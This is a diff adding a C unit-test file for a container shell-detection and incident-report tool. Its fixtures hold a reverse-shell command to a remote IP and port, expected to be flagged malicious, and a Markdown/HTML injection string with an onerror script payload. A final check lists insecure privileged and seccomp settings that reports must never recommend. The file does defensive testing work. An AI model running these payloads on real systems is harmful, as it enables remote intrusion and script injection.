@@ -1,0 +1,479 @@
+/* SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <dirent.h>
+#include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <cmocka.h>
+
+#include <json-c/json.h>
+
+#include "analyze.h"
+#include "report.h"
+#include "rules.h"
+
+#define KB_FILE "rules/knowledge_base.yaml"
+#define RULES_FILE "rules/shellsentry_rules.yaml"
+#define SEED_FILE "tests/fixtures/seed_alert.json"
+#define SEED_CMD "bash -c /usr/sbin/lsmod | cut -d' ' -f1 | grep -qx \"falco\""
+#define KUBECTL_CMD "sh -c command -v bash >/dev/null && exec bash || exec sh"
+
+/* Every report any test produced, for the advice check at the end. */
+static struct mdbuf all_reports;
+
+/* Run analyze on input (or on file when input is NULL); returns its stdout. */
+static char *analyze(const char *input, const char *file, const char *out_dir, int want)
+{
+	char *argv[8] = { "analyze", "--kb", KB_FILE };
+	char *out = NULL, *errs = NULL;
+	size_t out_len = 0, err_len = 0;
+	FILE *in, *o, *e;
+	int argc = 3, ret;
+
+	if (out_dir) {
+		argv[argc++] = "--out-dir";
+		argv[argc++] = (char *)out_dir;
+	}
+	if (file)
+		argv[argc++] = (char *)file;
+	in = fmemopen((void *)(input ? input : ""), input ? strlen(input) : 0, "r");
+	o = open_memstream(&out, &out_len);
+	e = open_memstream(&errs, &err_len);
+	assert_non_null(in);
+	assert_non_null(o);
+	assert_non_null(e);
+	ret = analyze_run(argc, argv, in, o, e);
+	fclose(in);
+	fclose(o);
+	fclose(e);
+	if (ret != want)
+		fail_msg("analyze returned %d: %s", ret, errs);
+	free(errs);
+	if (!out_dir)
+		mdbuf_puts(&all_reports, out);
+	return out;
+}
+
+/* A JSON alert line with shellsentry's fields; extra: key, value pairs. */
+static char *alert_line(const char *rule, const char *time, const char *cid, int pid,
+			const char *cmdline, const char *k1, const char *v1)
+{
+	struct json_object *o = json_object_new_object(), *f = json_object_new_object();
+	char *line;
+
+	json_object_object_add(o, "time", json_object_new_string(time));
+	json_object_object_add(o, "rule", json_object_new_string(rule));
+	json_object_object_add(o, "priority", json_object_new_string("Warning"));
+	json_object_object_add(o, "source", json_object_new_string("syscall"));
+	json_object_object_add(o, "hostname", json_object_new_string("node-7"));
+	json_object_object_add(o, "output", json_object_new_string("shell"));
+	json_object_object_add(f, "container.id", json_object_new_string(cid));
+	json_object_object_add(f, "container.image.repository",
+			       json_object_new_string("docker.io/library/debian"));
+	json_object_object_add(f, "k8s.ns.name", json_object_new_string("shop"));
+	json_object_object_add(f, "container.privileged", json_object_new_boolean(1));
+	json_object_object_add(f, "proc.cmdline", json_object_new_string(cmdline));
+	json_object_object_add(f, "proc.pid", json_object_new_int(pid));
+	json_object_object_add(f, "proc.vpid", json_object_new_int(1));
+	json_object_object_add(f, "proc.pname", json_object_new_string("runc"));
+	json_object_object_add(f, "proc.apid[1]", json_object_new_int(99));
+	json_object_object_add(f, "proc.tty", json_object_new_int(34816));
+	json_object_object_add(f, "user.uid", json_object_new_int(0));
+	json_object_object_add(f, "user.name", json_object_new_string("root"));
+	json_object_object_add(f, "user.loginuid", json_object_new_int(1000));
+	json_object_object_add(f, "shellsentry.lineage", json_object_new_string("injected"));
+	json_object_object_add(f, "shellsentry.cap_effective_hex",
+			       json_object_new_string("0x000001ffffffffff"));
+	if (k1)
+		json_object_object_add(f, k1, json_object_new_string(v1));
+	json_object_object_add(o, "output_fields", f);
+	line = strdup(json_object_to_json_string_ext(o, JSON_C_TO_STRING_PLAIN));
+	json_object_put(o);
+	return line;
+}
+
+/* The YAML of the tuning section's code block. */
+static char *tuning_yaml(const char *report)
+{
+	const char *t = strstr(report, "## Tuning"), *start, *end;
+	size_t fence = 0;
+
+	assert_non_null(t);
+	start = strstr(t, "yaml\n");
+	assert_non_null(start);
+	while (start - fence - 1 >= t && start[-(long)fence - 1] == '`')
+		fence++;
+	assert_true(fence >= 3);
+	start += 5;
+	end = strstr(start, "\n```");
+	assert_non_null(end);
+	return strndup(start, (size_t)(end - start) + 1);
+}
+
+/* The snippet must load with the shipped rules, and change nothing else. */
+static void snippet_loads(const char *report)
+{
+	char path[] = "/tmp/ss_tuning_XXXXXX";
+	char *yaml = tuning_yaml(report);
+	const char *paths[2] = { RULES_FILE, path };
+	struct rules_options opt = { .min_priority = PRIO_DEBUG };
+	struct rules_error err;
+	struct ruleset *rs = NULL;
+	int fd = mkstemp(path);
+
+	assert_true(fd >= 0);
+	assert_int_equal(write(fd, yaml, strlen(yaml)), (ssize_t)strlen(yaml));
+	close(fd);
+	if (ruleset_load(paths, 2, &opt, &rs, &err, NULL))
+		fail_msg("snippet does not load: %s:%d:%d: %s\n%s", err.file, err.line, err.col,
+			 err.msg, yaml);
+	ruleset_free(rs);
+	unlink(path);
+	free(yaml);
+}
+
+/* Lines starting with prefix, outside fenced code blocks. */
+static size_t count_lines_starting(const char *s, const char *prefix)
+{
+	size_t n = 0, len = strlen(prefix), fence = 0, run;
+	const char *p = s;
+
+	while (p) {
+		for (run = 0; p[run] == '`'; run++)
+			;
+		if (run >= 3 && !fence)
+			fence = run;
+		else if (fence && run >= fence && (p[run] == '\n' || !p[run]))
+			fence = 0;
+		else if (!fence && !strncmp(p, prefix, len))
+			n++;
+		p = strchr(p, '\n');
+		if (p)
+			p++;
+	}
+	return n;
+}
+
+static void test_seed_reproduced(void **state)
+{
+	char *r = analyze(NULL, SEED_FILE, NULL, 0);
+
+	(void)state;
+	assert_non_null(strstr(r, "Detect Shell in Container"));
+	assert_non_null(strstr(r, "185304d1bba4"));
+	assert_non_null(strstr(r, "k8s-master-01"));
+	assert_non_null(strstr(r, "`root`"));
+	assert_non_null(strstr(r, SEED_CMD)); /* verbatim, outside tables */
+	assert_non_null(strstr(r, "**Verdict: expected**"));
+	assert_non_null(strstr(r, "falco-driver-loader-kmod-check"));
+	assert_non_null(strstr(r, "falcoctl"));
+	assert_non_null(strstr(r, "falco-driver-loader"));
+	/* facts Falco's JSON lacks are said to be unknown, not made up */
+	assert_non_null(strstr(r, "| Lineage | *unknown"));
+	assert_non_null(strstr(r, "| Image | *unknown"));
+	assert_null(strstr(r, "uid 0"));
+	assert_int_equal(count_lines_starting(r, "# "), 1);
+	snippet_loads(r);
+	free(r);
+}
+
+static void test_reverse_shell_is_malicious(void **state)
+{
+	char *line = alert_line("Terminal shell in container", "2024-05-15T10:02:03.5Z",
+				"0123456789ab", 4242,
+				"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", NULL, NULL);
+	char *r = analyze(line, NULL, NULL, 0);
+
+	(void)state;
+	assert_non_null(strstr(r, "**Verdict: malicious-indicator**"));
+	assert_non_null(strstr(r, "`reverse-shell`"));
+	/* mitigations follow the facts: root, privileged, injected with a tty */
+	assert_non_null(strstr(r, "runAsNonRoot: true"));
+	assert_non_null(strstr(r, "drop: [\"ALL\"]"));
+	assert_non_null(strstr(r, "**privileged**"));
+	assert_non_null(strstr(r, "interactive shell injected from outside"));
+	assert_non_null(strstr(r, "pods/exec"));
+	assert_non_null(strstr(r, "readOnlyRootFilesystem: true"));
+	assert_non_null(strstr(r, "namespace: shop"));
+	assert_non_null(strstr(r, "pts/0"));
+	assert_non_null(strstr(r, "Do not add this exception"));
+	snippet_loads(r);
+	free(r);
+	free(line);
+}
+
+static void test_plain_shell_has_no_pattern(void **state)
+{
+	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab", 1,
+				"sh -c true", NULL, NULL);
+	char *r = analyze(line, NULL, NULL, 0);
+
+	(void)state;
+	assert_non_null(strstr(r, "**Verdict: no known pattern: review needed**"));
+	assert_non_null(strstr(r, "matched none of the"));
+	/* no pattern section in the assessment */
+	assert_true(strstr(r, "### ") > strstr(r, "## Mitigations"));
+	snippet_loads(r);
+	free(r);
+	free(line);
+}
+
+/* Whether pos lies inside a code span of the line (CommonMark backtick runs). */
+static bool in_code_span(const char *line, size_t len, size_t pos)
+{
+	size_t i = 0, n, j, k, m;
+
+	while (i < len) {
+		if (line[i] == '\\') {
+			i += 2;
+			continue;
+		}
+		if (line[i] != '`') {
+			i++;
+			continue;
+		}
+		for (n = 0; i + n < len && line[i + n] == '`'; n++)
+			;
+		for (j = i + n; j < len; j = k + m) {
+			for (k = j; k < len && line[k] != '`'; k++)
+				;
+			for (m = 0; k + m < len && line[k + m] == '`'; m++)
+				;
+			if (m == n || k >= len)
+				break;
+		}
+		if (j < len && k < len && m == n) {
+			if (pos >= i && pos < k + m)
+				return true;
+			i = k + m;
+		} else {
+			i += n;
+		}
+	}
+	return false;
+}
+
+/* Whether the line at bol lies inside a fenced code block of report r. */
+static bool in_fenced_block(const char *r, const char *bol)
+{
+	size_t fence = 0, run;
+	const char *p = r;
+
+	while (p && p < bol) {
+		for (run = 0; p[run] == '`'; run++)
+			;
+		if (run >= 3 && !fence)
+			fence = run;
+		else if (fence && run >= fence && (p[run] == '\n' || !p[run]))
+			fence = 0;
+		p = strchr(p, '\n');
+		if (p)
+			p++;
+	}
+	return fence != 0;
+}
+
+static size_t unescaped_pipes(const char *line, size_t len)
+{
+	size_t i, n = 0;
+
+	for (i = 0; i < len; i++)
+		n += line[i] == '|' && (i == 0 || line[i - 1] != '\\');
+	return n;
+}
+
+static void test_markdown_injection_contained(void **state)
+{
+	const char *evil = "sh -c echo `x` ``y`` | z\n# pwned <img src=x onerror=alert(1)> |\r"
+			   "\x1b[2J</code>";
+	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab", 9,
+				evil, "container.name", "evil|name\n## Fake section");
+	char *benign = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab", 9,
+				  "sh -c true", "container.name", "web");
+	char *r = analyze(line, NULL, NULL, 0), *rb = analyze(benign, NULL, NULL, 0);
+	const char *p, *eol, *sect;
+	size_t len;
+
+	(void)state;
+	assert_int_equal(count_lines_starting(r, "# "), 1);
+	assert_int_equal(count_lines_starting(r, "# pwned"), 0);
+	assert_int_equal(count_lines_starting(r, "## Fake"), 0);
+	assert_int_equal(count_lines_starting(r, "## "), count_lines_starting(rb, "## "));
+	assert_null(strchr(r, '\r'));
+	assert_null(strchr(r, 0x1b));
+	/* every "<img" and "</code>" is inside a code span on its line */
+	for (p = r; (p = strstr(p, "<img")) || 0; p++) {
+		const char *bol = p;
+
+		while (bol > r && bol[-1] != '\n')
+			bol--;
+		eol = strchr(p, '\n');
+		len = eol ? (size_t)(eol - bol) : strlen(bol);
+		if (!in_fenced_block(r, bol) && !in_code_span(bol, len, (size_t)(p - bol)))
+			fail_msg("HTML outside a code span: %.*s", (int)len, bol);
+	}
+	/* table rows keep their column count */
+	sect = strstr(r, "## Event details");
+	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Timeline"); p = strstr(p, "\n|")) {
+		p++;
+		eol = strchr(p, '\n');
+		assert_int_equal(unescaped_pipes(p, (size_t)(eol - p)), 3);
+	}
+	sect = strstr(r, "## Timeline");
+	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Security"); p = strstr(p, "\n|")) {
+		p++;
+		eol = strchr(p, '\n');
+		assert_int_equal(unescaped_pipes(p, (size_t)(eol - p)), 8);
+	}
+	snippet_loads(r);
+	free(r);
+	free(rb);
+	free(line);
+	free(benign);
+}
+
+static void test_kubectl_exec_grouped(void **state)
+{
+	char *l1 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.100Z", "0123456789ab",
+			      4242, KUBECTL_CMD, NULL, NULL);
+	char *l2 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.140Z", "0123456789ab",
+			      4242, "bash", NULL, NULL);
+	char *l3 = alert_line("Detect Shell in Container", "2024-05-15T10:02:04Z", "ba9876543210", 77,
+			      "bash", NULL, NULL);
+	char *input, dir[] = "/tmp/ss_reports_XXXXXX", *r, *listing;
+	struct dirent *de;
+	size_t files = 0;
+	DIR *d;
+
+	(void)state;
+	assert_true(asprintf(&input, "%s\n%s\n\nnot json\n%s\n", l1, l2, l3) > 0);
+	r = analyze(input, NULL, NULL, 1); /* 1: one line was not an alert */
+	assert_int_equal(count_lines_starting(r, "# Shell activity"), 2);
+	/* the first report holds both commands of the exec session */
+	assert_non_null(strstr(r, "| 1 | `2024-05-15T10:02:03.100Z`"));
+	assert_non_null(strstr(r, "| 2 | `2024-05-15T10:02:03.140Z`"));
+	assert_non_null(strstr(r, "exec bash \\|\\| exec sh"));
+	assert_non_null(strstr(r, "2 commands in one session"));
+	free(r);
+
+	assert_non_null(mkdtemp(dir));
+	listing = analyze(input, NULL, dir, 1);
+	d = opendir(dir);
+	assert_non_null(d);
+	while ((de = readdir(d))) {
+		char path[512];
+
+		if (de->d_name[0] == '.')
+			continue;
+		files++;
+		assert_non_null(strstr(listing, de->d_name));
+		assert_non_null(strstr(de->d_name, "node-7"));
+		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+		unlink(path);
+	}
+	closedir(d);
+	rmdir(dir);
+	assert_int_equal(files, 2);
+	free(listing);
+	free(input);
+	free(l1);
+	free(l2);
+	free(l3);
+}
+
+static void test_reporter_bounds(void **state)
+{
+	char dir[] = "/tmp/ss_live_XXXXXX", path[512];
+	struct exec_event *ev = calloc(1, sizeof(*ev));
+	struct reporter_stats st;
+	struct reporter *rep;
+	struct dirent *de;
+	size_t files = 0;
+	FILE *f;
+	DIR *d;
+
+	(void)state;
+	assert_non_null(mkdtemp(dir));
+	assert_int_equal(reporter_new(dir, KB_FILE, 1, 0, &rep), 0);
+	ev->time_ns = 1715767323ull * 1000000000ull;
+	ev->container.is_container = true;
+	snprintf(ev->container.id, sizeof(ev->container.id), "0123456789ab");
+	snprintf(ev->hostname, sizeof(ev->hostname), "node-1");
+	snprintf(ev->comm, sizeof(ev->comm), "bash");
+	snprintf(ev->cmdline, sizeof(ev->cmdline), "bash");
+	ev->lineage = SS_LINEAGE_INJECTED;
+	ev->pid = 10;
+	assert_int_equal(reporter_add(rep, ev, "Detect Shell in Container", PRIO_NOTICE, "o"), 0);
+	snprintf(ev->container.id, sizeof(ev->container.id), "ba9876543210");
+	assert_int_equal(reporter_add(rep, ev, "Detect Shell in Container", PRIO_NOTICE, "o"), 0);
+	assert_int_equal(reporter_flush(rep, ev->time_ns, false), 0);
+	reporter_get_stats(rep, &st);
+	assert_int_equal(st.written, 0); /* windows still open */
+	assert_int_equal(reporter_flush(rep, 0, true), 0);
+	reporter_get_stats(rep, &st);
+	assert_int_equal(st.written, 1);
+	assert_int_equal(st.dropped, 1);
+	reporter_free(rep);
+	d = opendir(dir);
+	while ((de = readdir(d))) {
+		char *text = NULL;
+		size_t cap = 0;
+
+		if (de->d_name[0] == '.')
+			continue;
+		files++;
+		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+		f = fopen(path, "r");
+		assert_non_null(f);
+		assert_true(getdelim(&text, &cap, '\0', f) > 0);
+		fclose(f);
+		/* live events carry every fact: none is "not in the alert" */
+		assert_null(strstr(text, "not in the alert"));
+		assert_non_null(strstr(text, "injected"));
+		mdbuf_puts(&all_reports, text);
+		free(text);
+		unlink(path);
+	}
+	closedir(d);
+	rmdir(dir);
+	assert_int_equal(files, 1);
+	free(ev);
+}
+
+/* Runs last: no report ever recommends removing protections. */
+static void test_no_harmful_advice(void **state)
+{
+	const char *all = mdbuf_str(&all_reports);
+
+	(void)state;
+	assert_int_equal(all_reports.err, 0);
+	assert_true(strlen(all) > 10000); /* the reports above were collected */
+	assert_null(strstr(all, "--privileged"));
+	assert_null(strstr(all, "privileged=true"));
+	assert_null(strstr(all, "seccomp=unconfined"));
+	assert_null(strstr(all, "seccomp:unconfined"));
+	assert_null(strstr(all, "privileged: true"));
+	assert_null(strstr(all, "allowPrivilegeEscalation: true"));
+	mdbuf_free(&all_reports);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_seed_reproduced),
+		cmocka_unit_test(test_reverse_shell_is_malicious),
+		cmocka_unit_test(test_plain_shell_has_no_pattern),
+		cmocka_unit_test(test_markdown_injection_contained),
+		cmocka_unit_test(test_kubectl_exec_grouped),
+		cmocka_unit_test(test_reporter_bounds),
+		cmocka_unit_test(test_no_harmful_advice),
+	};
+
+	mdbuf_init(&all_reports, 0);
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
